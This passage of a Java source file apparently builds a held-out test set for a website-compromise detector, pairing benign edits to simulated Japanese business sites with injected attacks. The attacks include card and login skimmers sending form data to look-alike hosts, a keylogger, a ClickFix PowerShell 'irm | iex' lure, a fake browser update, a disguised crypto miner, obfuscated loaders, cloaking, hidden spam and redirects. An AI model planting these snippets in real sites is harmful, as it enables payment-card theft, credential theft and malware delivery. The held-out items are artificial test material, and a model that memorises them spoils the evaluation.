          + "f77871ff7694fffea381\" id=\"wp-dom-ready-js\"></script>\n");
    }));
    v.add(good(K, "cms", "[fresh4] cart moved to the WooCommerce Cart block (block scripts and wcSettings)", e -> e.site.replace(
        "/cart/", "<div class=\"entry-content\"><div class=\"woocommerce\">", "<div class=\"entry-content\"><div class=\"wp-block-"
            + "woocommerce-cart alignwide is-loading\"></div><script id=\"wc-settings-js-before\">var wcSettings = wcSettings || "
            + "JSON.parse( decodeURIComponent( '" + percentAll("{\"currency\":{\"code\":\"JPY\",\"symbol\":\"\u00a5\"},"
            + "\"storeApiNonce\":\"ab12cd34\",\"checkoutUrl\":\"/checkout/\"}") + "' ) );</script><script src=\"{{origin}}/wp-content/"
            + "plugins/woocommerce/assets/client/blocks/cart-frontend.js?ver=9.3.3\" id=\"wc-cart-block-frontend-js\"></script>"
            + "<div class=\"woocommerce\">")));
    v.add(good(T, "tags", "[fresh4] Yahoo! Ads conversion tag", e -> e.site.insertBefore("*", "</head>",
        "<script async src=\"https://s.yimg.jp/images/listing/tool/cv/ytag.js\"></script>\n<script>window.yjDataLayer = window."
            + "yjDataLayer || [];function ytag() { yjDataLayer.push(arguments); }ytag({\"type\":\"ycl_cookie\"});</script>\n")));
    v.add(good(Y, "cms", "[fresh4] Homepage Builder re-publish: version 22, renamed CSS files", e -> {
      e.site.replace("*", "Homepage Builder Version 21.0.5.0", "Homepage Builder Version 22.0.3.0")
          .replace("*", "main_7Fa_2c.css", "main_8Fa_2c.css").replace("*", "container_7Fa_2c_top.css", "container_8Fa_2c_top.css");
      e.site.put("/main_8Fa_2c.css", e.site.text("/main_7Fa_2c.css"));
      e.site.put("/container_8Fa_2c_top.css", e.site.text("/container_7Fa_2c_top.css"));
    }));
    v.add(good(Y, "content", "[fresh4] a new page about the invoice system, linked from the navigation", e -> {
      e.site.insertBefore("*", "<LI id=\"nav-faq\">", "<LI id=\"nav-invoice\"><A href=\"invoice.html\"><SPAN class=\"ja\">インボイス"
          + "制度</SPAN><SPAN class=\"en\">invoice</SPAN></A>\n        ");
      e.site.putLike("/invoice.html", "/faq.html", "<SPAN class=\"ja\">", "</SPAN><SPAN class=\"en\">", "インボイス制度");
      e.site.replace("/invoice.html", "Q. 初回の相談は有料ですか？", "Q. 免税事業者も登録が必要ですか？");
    }));
    v.add(good(E, "embed", "[fresh4] PayPal buttons on the cart page", e -> e.site.insertBefore("/cart",
        "<div class=\"ec-cartRole__actions\">", "<div id=\"paypal-button-container\"></div><script src=\"https://www.paypal.com/sdk/"
            + "js?client-id=AbCdEf123456&currency=JPY&intent=capture\" data-partner-attribution-id=\"EC-CUBE4_Cart\"></script>\n")));
    v.add(good(W, "embed", "[fresh4] Google Translate widget in the header", e -> e.site.insertBefore("*", "</header>",
        "<div id=\"google_translate_element\"></div><script>function googleTranslateElementInit(){new google.translate."
            + "TranslateElement({pageLanguage:'ja',includedLanguages:'en,zh-CN,ko'},'google_translate_element');}</script>"
            + "<script src=\"//translate.google.com/translate_a/element.js?cb=googleTranslateElementInit\"></script>\n")));
    v.add(good(S, "content", "[fresh4] a winter plan page with a price table, linked from the top page", e -> {
      e.site.insertBefore("/", "<div align=\"right\">", "<p><a href=\"plan-winter.html\">▼冬の特別プランはこちら</a></p>");
      e.site.putLike("/plan-winter.html", "/ryokin.html", "<font size=\"4\" color=\"#6B4E2E\"><b>", "</b>", "冬の特別プラン");
    }));
    v.add(good(C, "content", "[fresh4] shop section from the builder's store app, linking within the site", e ->
        e.site.insertBefore("/", "<section id=\"comp-kt1a2b4a\"", "<section id=\"comp-shop01\" class=\"wixui-section\"><h2 class="
            + "\"font_2\">オンラインショップ</h2><ul><li><a href=\"{{origin}}/product-page/blend\">こもれびブレンド 200g</a> 1,620円"
            + "</li><li><a href=\"{{origin}}/product-page/drip\">ドリップバッグ 10袋</a> 1,400円</li></ul></section>")));
    return v;
  }

  static String xor(String s, int key) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(String.format("\\x%02x", c ^ key));
    }
    return sb.toString();
  }

  static String percentU(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(String.format("%%u%04x", (int) c));
    }
    return sb.toString();
  }

  // ================================================================ [fresh5] compromises

  static List<HeldOutVariant> fresh5Compromises() {
    List<HeldOutVariant> v = new ArrayList<>();
    Instant now = Instant.now();

    // ---- skimmers
    v.add(bad(K, "skimmer", "[fresh5] appended to order-attribution.min.js: card inputs sent with Reflect.apply(fetch) to a "
        + "host joined from a reversed array", e -> e.site.append(
        "/wp-content/plugins/woocommerce/assets/js/frontend/order-attribution.min.js", "\n;!function(){var h=['net','woo-pay"
            + "-check'].reverse().join('.');document.addEventListener('change',function(ev){var t=ev.target;if(t&&/card|cvc|exp/i"
            + ".test(t.name||'')){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});Reflect."
            + "apply(fetch,window,['https://'+h+'/o',{method:'POST',mode:'no-cors',body:JSON.stringify(d)}])}},true)}();\n")));
    v.add(bad(H, "skimmer", "[fresh5] contact-page keylogger: keys kept in localStorage, flushed with sendBeacon to a template "
        + "literal built from pieces", e -> e.site.insertBefore("/contact/", "</body>", "<script>(function(){var k='_mwk',h=`"
            + "${'med'}${'-stat'}.${'info'}`;document.addEventListener('input',function(ev){localStorage.setItem(k,(localStorage"
            + ".getItem(k)||'')+ev.target.name+'='+ev.target.value+'&')});window.addEventListener('pagehide',function(){navigator"
            + ".sendBeacon(`https://${h}/b`,localStorage.getItem(k)||'')});})();</script>\n")));
    v.add(bad(E, "skimmer", "[fresh5] login form read and sent over window['Web'+'Socket']", e -> e.site.insertBefore(
        "/mypage/login", "</body>", "<script>(function(){var W=window['Web'+'Socket'];document.getElementById('login_mypage')"
            + ".addEventListener('submit',function(){var f=this,o={};for(var i=0;i<f.elements.length;i++){o[f.elements[i].name]=f."
            + "elements[i].value}try{var s=new W('wss://ec-session-sync.com/ws');s.onopen=function(){s.send(JSON.stringify(o))}}"
            + "catch(x){}})})();</script>\n")));
    v.add(bad(T, "skimmer", "[fresh5] entry form sent by XHR to a URL kept double-escaped inside JSON.parse", e -> e.site.insertBefore(
        "/recruit/entry/", "</body>", "<script>document.addEventListener('submit',function(ev){var u=JSON.parse('\"\\\\u0068\\\\u0074"
            + "\\\\u0074\\\\u0070\\\\u0073://wpforms-entries.net/s\"');var x=new XMLHttpRequest();x.open('POST',u);x.send(new FormData("
            + "ev.target))},true);</script>\n")));
    v.add(bad(G, "skimmer", "[fresh5] inquiry form cloned into a hidden form posted to a hidden iframe on another site", e ->
        e.site.insertBefore("/contact/", "</body>", "<script>document.addEventListener('submit',function(ev){var f=ev.target.cloneNode"
            + "(true),i=document.createElement('iframe');i.name='_x';i.style.display='none';document.body.appendChild(i);f.action="
            + "'https://aform-mirror.org/p';f.target='_x';f.style.display='none';document.body.appendChild(f);f.submit()},true);"
            + "</script>\n")));

    // ---- fake updates and ClickFix
    v.add(bad(L, "fake-update", "[fresh5] ClickFix through a hidden textarea and execCommand('copy'), Japanese Win+R steps", e ->
        e.site.insertBefore("*", "<div class=\"copyright\">", "<div id=\"rc-v\" style=\"position:fixed;inset:0;z-index:99999;"
            + "background:#f9f9f9;padding:10vh 20px\"><h2>ロボットではないことを確認してください</h2><p>1. Windowsキー＋Rを押します"
            + "<br>2. Ctrl＋Vで貼り付けます<br>3. Enterを押します</p><button id=\"rc-b\">確認する</button><textarea id=\"rc-t\" "
            + "style=\"position:absolute;left:-999px\">cmd /c start /min powershell -nop -w 1 -c \"irm https://rc-verify-jp.com/"
            + "a|iex\"</textarea></div><script>document.getElementById('rc-b').onclick=function(){var t=document.getElementById("
            + "'rc-t');t.select();document.execCommand('copy')};</script>")));
    v.add(bad(S, "fake-update", "[fresh5] 'Microsoft Edge の更新' banner with an off-site .msix download", e -> e.site.insertBefore(
        "*", "</body>", "<div style=\"position:fixed;top:0;left:0;right:0;z-index:9999;background:#fff3cd;padding:16px;text-align:"
            + "center\"><b>Microsoft Edge の重要な更新があります</b><br>このページを正しく表示するには、最新バージョンへの更新が必要です。"
            + "<a href=\"https://edge-update-center.com/download/MicrosoftEdgeUpdate.msix\">今すぐ更新</a></div>\n")));

    // ---- keyword hack and cloaking
    v.add(bad(H, "keyword-hack", "[fresh5] Googlebot alone gets navigation links to same-site knock-off pages", e -> {
      HeldOutSite bot = HeldOutCorpus.copy(e);
      StringBuilder links = new StringBuilder("<ul class=\"menu-rel\">");
      for (int n = 1; n <= 12; n++) {
        links.append("<li><a href=\"").append(e.site.origin).append("/?p=kopi-").append(n).append("\">ブランド コピー 激安 ")
            .append(n).append("</a></li>");
      }
      bot.insertBefore("/", "<div class=\"source-org copyright\">", links.append("</ul>").toString());
      e.site.override = r -> {
        if (r.isBot() && r.path().equals("/") && (r.query() == null || r.query().isEmpty())) {
          return bot.serve(r);
        }
        return r.query() != null && r.query().startsWith("p=kopi-") ? Reply.html(kwPage(e, r.query().length())) : null;
      };
    }));
    v.add(bad(K, "keyword-hack", "[fresh5] the product sitemap grows from 3 URLs to 1,200 knock-off pages", e -> {
      StringBuilder sm = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/"
          + "schemas/sitemap/0.9\"><url><loc>{{origin}}/product/shokupan/</loc></url>");
      for (int n = 1; n <= 1200; n++) {
        sm.append("<url><loc>{{origin}}/product/nkyu-").append(n).append("/</loc><lastmod>2026-11-28T03:00:00+00:00</lastmod>"
            + "</url>");
      }
      e.site.put("/wp-sitemap-posts-product-1.xml", sm.append("</urlset>").toString());
      e.site.override = r -> r.path().startsWith("/product/nkyu-") ? Reply.html(kwPage(e, Integer.parseInt(r.path()
          .replaceAll("\\D", "")))) : null;
    }));

    // ---- hidden SEO spam
    v.add(bad(G, "seo-spam", "[fresh5] brand-copy links in a block with the HTML hidden attribute", e -> e.site.insertBefore("*",
        "<p class=\"copyright\">", "<div hidden>" + BRAND_COPY + "</div>")));
    v.add(bad(L, "seo-spam", "[fresh5] casino links in a heading pushed off with text-indent", e -> e.site.insertBefore("*",
        "<div class=\"copyright\">", "<h2 style=\"text-indent:-10000px;overflow:hidden;height:0;margin:0\">" + JP_CASINO + "</h2>")));
    v.add(bad(Y, "seo-spam", "[fresh5] spam links inside <noscript> at the end of the body (Shift_JIS)", e -> e.site.insertBefore(
        "*", "</BODY>", "<NOSCRIPT>" + BRAND_COPY + "</NOSCRIPT>\n")));
    v.add(bad(C, "seo-spam", "[fresh5] pharma links in transparent text", e -> e.site.insertBefore("*", "<div id=\"SCROLL_TO_BOTTOM\"",
        "<p style=\"color:transparent;font-size:11px\">" + EN_SPAM + "</p>")));
    v.add(bad(W, "seo-spam", "[fresh5] brand links hidden by an id rule in an injected <style> (max-height:0)", e -> {
      e.site.insertBefore("*", "</head>", "<style>#ft-partners{max-height:0;overflow:hidden}</style>\n");
      e.site.insertBefore("*", "<div class=\"container site-footer-copyright\">", "<div id=\"ft-partners\">" + BRAND_COPY + "</div>");
    }));

    // ---- redirects
    v.add(bad(S, "redirect", "[fresh5] touch screens (matchMedia pointer:coarse) sent away with location.assign", e ->
        e.site.insertBefore("*", "</head>", "<script>if(window.matchMedia&&matchMedia('(pointer:coarse)').matches&&!sessionStorage"
            + ".getItem('_v')){sessionStorage.setItem('_v',1);location.assign('https://onsen-deals.top/?r=yb')}</script>\n")));
    v.add(bad(H, "redirect", "[fresh5] meta refresh inside <noscript> in the body", e -> e.site.insertBefore("*",
        "<div class=\"source-org copyright\">", "<noscript><meta http-equiv=\"refresh\" content=\"0;url=https://clinic-supple-"
            + "jp.com/\"></noscript>")));
    v.add(bad(E, "redirect", "[fresh5] search-referrer redirect in a broken image's onerror attribute", e -> e.site.insertBefore("*",
        "<!-- ▲フッター -->", "<img src=\"/x.gif\" style=\"display:none\" onerror=\"if(/google|yahoo|bing/.test(document.referrer))"
            + "window.location='https://wagashi-otoku.com/?s='+location.host\">")));
    v.add(bad(K, "redirect", "[fresh5] server 301 for phones on product pages only", e -> e.site.override = r ->
        r.path().startsWith("/product/") && phone(r) ? Reply.redirect(301, "https://pan-gift-coupon.com/?p=" + r.path()) : null));
    v.add(bad(T, "redirect", "[fresh5] redirect in the body's onload attribute after a delay", e -> e.site.replace("*", "<body>",
        "<body onload=\"setTimeout(function(){location.replace('https://gaiheki-navi-pro.com/?t=2')},4000)\">")));

    // ---- iframes
    v.add(bad(G, "iframe", "[fresh5] zero-size <object> of another site", e -> e.site.insertBefore("*", "</body>",
        "<object data=\"https://mfg-stat-counter.com/o.html\" type=\"text/html\" width=\"0\" height=\"0\"></object>\n")));
    v.add(bad(Y, "iframe", "[fresh5] upper-case zero-size IFRAME after </HTML>", e -> e.site.append("/",
        "\n<IFRAME SRC=\"http://kaikei-rank.com/c.html\" WIDTH=0 HEIGHT=0 FRAMEBORDER=0></IFRAME>\n")));

    // ---- miners
    v.add(bad(L, "miner", "[fresh5] miner in a new same-site file named like jQuery UI, with a pool WebSocket", e -> {
      e.site.put("/wp-content/uploads/2026/11/jquery-ui.min.js", "/*! jQuery UI - v1.13.2 */\n!function(){var t=navigator."
          + "hardwareConcurrency||2,p='wss://xmr-proxy-eu.net:8443';function s(){var w=new WebSocket(p);w.onopen=function(){w."
          + "send(JSON.stringify({type:'auth',params:{site_key:'4f1b9c0d2e',user:'lumiere',threads:t,throttle:0.4}}))};w."
          + "onmessage=function(m){var j=JSON.parse(m.data);if(j.type==='job'){for(var i=0;i<t;i++){new Worker('/wp-content/"
          + "uploads/2026/11/w.js').postMessage({blob:j.params.blob,target:j.params.target})}}}}s()}();\n");
      e.site.insertBefore("*", "</body>", "<script src=\"{{origin}}/wp-content/uploads/2026/11/jquery-ui.min.js\"></script>\n");
    }));

    // ---- obfuscation
    v.add(bad(H, "obfuscation", "[fresh5] unescape of %u-encoded code run by setTimeout", e -> e.site.insertBefore("*", "</body>",
        "<script>setTimeout(unescape('" + percentU(loader("https://cocoon-fix-cdn.com/f.js")) + "'),10);</script>\n")));
    v.add(bad(K, "obfuscation", "[fresh5] XOR-decoded code run by indirect eval", e -> e.site.insertBefore("*", "</head>",
        "<script>(function(){var s='" + xor(loader("https://woo-xor-cdn.com/x.js"), 23) + "',o='';for(var i=0;i<s.length;i++)"
            + "{o+=String.fromCharCode(s.charCodeAt(i)^23)}(0,eval)(o)})();</script>\n")));
    v.add(bad(C, "obfuscation", "[fresh5] Function constructed with Reflect.construct from base64", e -> e.site.insertBefore("*",
        "</body>", "<script>Reflect.construct(Function,[atob('" + b64(loader("https://builder-static-js.com/r.js")) + "')])();"
            + "</script>\n")));

    // ---- defacement
    v.add(bad(T, "defacement", "[fresh5] home replaced by an Indonesian hacker's page", e -> e.site.override = HeldOutCorpus.home(
        "<!DOCTYPE html><html><head><title>Hacked By GarudaXploit</title></head><body style=\"background:#111;color:#0f0;"
            + "text-align:center\"><h1>Website Anda telah diretas</h1><p>Maaf admin, keamanan situs Anda sangat lemah. Silakan "
            + "perbaiki sistem Anda.</p><p>Salam dari Indonesia — GarudaXploit Team</p></body></html>")));
    v.add(bad(Y, "defacement", "[fresh5] home page's Japanese text replaced by Korean, the layout kept", e -> {
      String t = e.site.text("/");
      String ko = "<P>온라인 카지노 추천 사이트 순위 2026. 첫 충전 보너스와 안전한 토토사이트 정보를 확인하세요. 먹튀검증 완료 "
          + "사이트만 소개합니다. 실시간 바카라와 슬롯 게임을 즐겨보세요.</P>";
      e.site.put("/", t.replaceAll("(?s)<P[ >].*?</P>", ko.replace("$", "\\$")));
    }));

    // ---- form actions
    v.add(bad(C, "form", "[fresh5] builder contact form posts to a Formspree look-alike", e -> e.site.replace("/contact",
        "<form class=\"_1fPxN\" aria-label=\"お問い合わせフォーム\" novalidate>", "<form class=\"_1fPxN\" aria-label=\"お問い合わせ"
            + "フォーム\" action=\"https://formspree-io.com/f/xkomorebi\" method=\"post\" novalidate>")));

    // ---- origins, look-alikes and shorteners
    v.add(bad(W, "origin", "[fresh5] web font stylesheet from a Google Fonts look-alike with a hyphen", e -> e.site.insertBefore("*",
        "</head>", "<link rel=\"stylesheet\" href=\"https://fonts-googleapis.com/css2?family=Noto+Sans+JP&display=swap\">\n")));
    v.add(bad(S, "origin", "[fresh5] @import from a cdnjs/Cloudflare typo-squat inside an inline <style>", e -> e.site.insertBefore(
        "*", "</head>", "<style>@import url(//cdnjs-cloudfare.com/ajax/libs/animate.css/4.1.1/animate.min.css);</style>\n")));
    v.add(bad(E, "origin", "[fresh5] script through the is.gd shortener, added by inline code", e -> e.site.insertBefore("*",
        "<!-- ▲フッター -->", "<script>" + loader("https://is.gd/ecJq7v") + "</script>")));
    v.add(bad(G, "origin", "[fresh5] module preloaded from a new origin", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"modulepreload\" href=\"https://mt-static-modules.com/m/app.js\">\n<script type=\"module\">import "
            + "'https://mt-static-modules.com/m/app.js';</script>\n")));
    v.add(bad(K, "origin", "[fresh5] beacon to a new origin on every page", e -> e.site.insertBefore("*", "</body>",
        "<script>navigator.sendBeacon('https://stats-woo.net/c',JSON.stringify({p:location.pathname,r:document.referrer}));"
            + "</script>\n")));

    // ---- IoC list
    v.add(bad(L, "ioc", "[fresh5] IoC domain only in a dns-prefetch link", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"dns-prefetch\" href=\"//cdn." + IOC_DOMAINS.get(0) + "\">\n")));
    v.add(bad(G, "ioc", "[fresh5] IoC domain in an @font-face URL appended to the site's style.css", e -> e.site.append(
        "/common/css/style.css", "\n@font-face{font-family:'kg';src:url(https://fonts." + IOC_DOMAINS.get(1) + "/kg.woff2) "
            + "format('woff2')}\n")));

    // ---- TLS and DNS
    v.add(bad(H, "tls", "[fresh5] certificate expired yesterday", e -> e.certificate(List.of(e.site.host),
        now.minus(Duration.ofDays(91)), now.minus(Duration.ofDays(1)), false)).overHttps());
    v.add(bad(K, "tls", "[fresh5] certificate for another site's name", e -> e.certificate(List.of("shop.example-hosting.test"),
        now.minus(Duration.ofDays(3)), now.plus(Duration.ofDays(80)), false)).overHttps());
    v.add(bad(S, "dns", "[fresh5] the A record gets a second address", e -> e.resolver.record(e.site.host, "A", "127.0.0.1",
        "198.51.100.77")));
    return v;
  }

  // ================================================================ [fresh5] benign edits

  static List<HeldOutVariant> fresh5Benign() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(good(H, "embed", "[fresh5] Google Calendar of clinic days on the medical page", e -> e.site.insertBefore("/medical/",
        "<h2>検査設備</h2>", "<h2>診療カレンダー</h2><iframe src=\"https://calendar.google.com/calendar/embed?src=hinata.naika"
            + "%40gmail.com&ctz=Asia%2FTokyo\" style=\"border:0\" width=\"800\" height=\"600\" frameborder=\"0\" scrolling=\"no\">"
            + "</iframe>")));
    v.add(good(H, "content", "[fresh5] skip link and screen-reader labels added", e -> e.site.insertBefore("*",
        "<div class=\"source-org copyright\">", "<a class=\"skip-link screen-reader-text\" href=\"#content\">本文へスキップ</a>"
            + "<span class=\"screen-reader-text\">電話番号 092-000-0000</span>")));
    v.add(good(H, "embed", "[fresh5] Google Form embedded on the recruit page", e -> e.site.insertBefore("/recruit/",
        "<h2>医療事務（パート）</h2>", "<iframe src=\"https://docs.google.com/forms/d/e/1FAIpQLSf3x9hinata/viewform?embedded=true\" "
            + "width=\"640\" height=\"900\" frameborder=\"0\">読み込んでいます…</iframe>")));
    v.add(good(T, "embed", "[fresh5] Vimeo film of a site on the works page", e -> e.site.insertBefore("/works/",
        "<li class=\"p-postList__item\">", "<div class=\"works-movie\"><iframe src=\"https://player.vimeo.com/video/912345678?h="
            + "ab12cd34ef\" width=\"640\" height=\"360\" frameborder=\"0\" allow=\"autoplay; fullscreen\"></iframe></div>")));
    v.add(good(T, "tags", "[fresh5] hCaptcha on the WPForms forms", e -> e.site.insertBefore("/contact/", "</body>",
        "<script src=\"https://js.hcaptcha.com/1/api.js?hl=ja\" async defer></script>\n")));
    v.add(good(T, "content", "[fresh5] works gallery with same-site images in srcset", e -> e.site.insertBefore("/works/",
        "<li class=\"p-postList__item\">", "<li class=\"p-postList__item\"><img src=\"{{origin}}/wp-content/uploads/2026/11/"
            + "school-400.jpg\" srcset=\"{{origin}}/wp-content/uploads/2026/11/school-800.jpg 2x\" loading=\"lazy\" alt=\"小学校体育館"
            + "改修\" width=\"400\" height=\"250\"></li>")));
    v.add(good(K, "embed", "[fresh5] Amazon Pay button on the cart page", e -> e.site.insertBefore("/cart/", "</body>",
        "<div id=\"AmazonPayButton\"></div><script src=\"https://static-fe.payments-amazon.com/checkout.js\"></script>\n")));
    v.add(good(K, "content", "[fresh5] hero slider with Swiper from jsDelivr's npm mirror", e -> e.site.insertBefore("/", "</body>",
        "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.css\"><script src=\"https://"
            + "cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.js\"></script><script>new Swiper('.hero',{loop:true,autoplay:"
            + "{delay:4000}});</script>\n")));
    v.add(good(K, "tags", "[fresh5] Microsoft Clarity tag", e -> e.site.insertBefore("*", "</head>",
        "<script type=\"text/javascript\">(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};"
            + "t=l.createElement(r);t.async=1;t.src=\"https://www.clarity.ms/tag/\"+i;y=l.getElementsByTagName(r)[0];y.parentNode."
            + "insertBefore(t,y);})(window, document, \"clarity\", \"script\", \"p8x2komugi\");</script>\n")));
    v.add(good(Y, "content", "[fresh5] a marquee news ticker (Shift_JIS, old style)", e -> e.site.insertBefore("/", "</BODY>",
        "<MARQUEE scrollamount=\"3\"><FONT color=\"#003366\">年末調整・確定申告のご相談を受け付けています。お気軽にお電話ください。"
            + "</FONT></MARQUEE>\n")));
    v.add(good(Y, "content", "[fresh5] visually hidden phone label with an inline clip style", e -> e.site.insertBefore("*",
        "</BODY>", "<SPAN style=\"position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)\">電話番号 "
            + "086-000-0000</SPAN>\n")));
    v.add(good(Y, "embed", "[fresh5] LINE official account QR code image", e -> e.site.insertBefore("/", "</BODY>",
        "<P><A href=\"https://lin.ee/a1B2c3D\"><IMG src=\"https://qr-official.line.me/gs/M_123abcde_GW.png\" width=\"120\" "
            + "height=\"120\" alt=\"LINE友だち追加\"></A></P>\n")));
    v.add(good(G, "tags", "[fresh5] Zendesk chat widget", e -> e.site.insertBefore("*", "</body>",
        "<script id=\"ze-snippet\" src=\"https://static.zdassets.com/ekr/snippet.js?key=0a1b2c3d-4e5f-6789-abcd-ef0123456789\">"
            + "</script>\n")));
    v.add(good(G, "content", "[fresh5] print-only company block hidden on screen", e -> e.site.insertBefore("*",
        "<p class=\"copyright\">", "<div class=\"print-only\" style=\"display:none\">株式会社こがね製作所 新潟県燕市 TEL 0256-00-0000 "
            + "<a href=\"{{origin}}/\">www.kogane-mfg.test</a></div>")));
    v.add(good(L, "content", "[fresh5] LINE booking button through LINE's own lin.ee link", e -> e.site.insertBefore("*",
        "<div class=\"copyright\">", "<p class=\"line-btn\"><a href=\"https://lin.ee/Xy9Zlumi\"><img src=\"https://scdn.line-apps"
            + ".com/n/line_add_friends/btn/ja.png\" alt=\"LINEで予約\" height=\"36\"></a></p>")));
    v.add(good(L, "embed", "[fresh5] Instagram grid from SnapWidget on the gallery page", e -> e.site.insertBefore("/gallery/",
        "</main>", "<iframe src=\"https://snapwidget.com/embed/1063456\" class=\"snapwidget-widget\" allowtransparency=\"true\" "
            + "frameborder=\"0\" scrolling=\"no\" style=\"border:none;overflow:hidden;width:100%\"></iframe>")));
    v.add(good(W, "tags", "[fresh5] CookieYes consent banner", e -> e.site.insertAfter("*", "<head>", "\n<script id=\"cookieyes\" "
        + "type=\"text/javascript\" src=\"https://cdn-cookieyes.com/client_data/4f2a1b3c5d6e7f8091a2b3c4/script.js\"></script>")));
    v.add(good(W, "content", "[fresh5] mega-menu hidden until hover, linking to group companies", e -> e.site.insertBefore("*",
        "</header>", "<div class=\"mega-menu\" style=\"display:none\"><a href=\"https://www.midori-fudosan.co.jp/\">みどり不動産"
            + "</a> <a href=\"https://www.midori-sekkei.jp/\">みどり設計事務所</a></div>")));
    v.add(good(E, "content", "[fresh5] back-to-top button with a small inline script", e -> e.site.insertBefore("*",
        "<!-- ▲フッター -->", "<a href=\"#\" id=\"pagetop\" style=\"position:fixed;right:16px;bottom:16px\">▲</a><script>"
            + "document.getElementById('pagetop').onclick=function(ev){ev.preventDefault();window.scrollTo({top:0,behavior:"
            + "'smooth'})};</script>")));
    v.add(good(S, "embed", "[fresh5] Rakuten Travel banner image and Jalan booking link", e -> e.site.insertBefore("*", "</body>",
        "<p><a href=\"https://travel.rakuten.co.jp/HOTEL/123456/\"><img src=\"https://img.travel.rakuten.co.jp/package/ryokan/"
            + "banner_200x40.gif\" alt=\"楽天トラベル\"></a> <a href=\"https://www.jalan.net/yad123456/\">じゃらんで予約</a></p>\n")));
    v.add(good(C, "embed", "[fresh5] Calendly booking widget on the contact page", e -> e.site.insertBefore("/contact",
        "<div id=\"comp-form01\"", "<div class=\"calendly-inline-widget\" data-url=\"https://calendly.com/komorebi-cafe/30min\" "
            + "style=\"min-width:320px;height:630px\"></div><script src=\"https://assets.calendly.com/assets/external/widget.js\" "
            + "async></script>")));
    return v;
  }
}
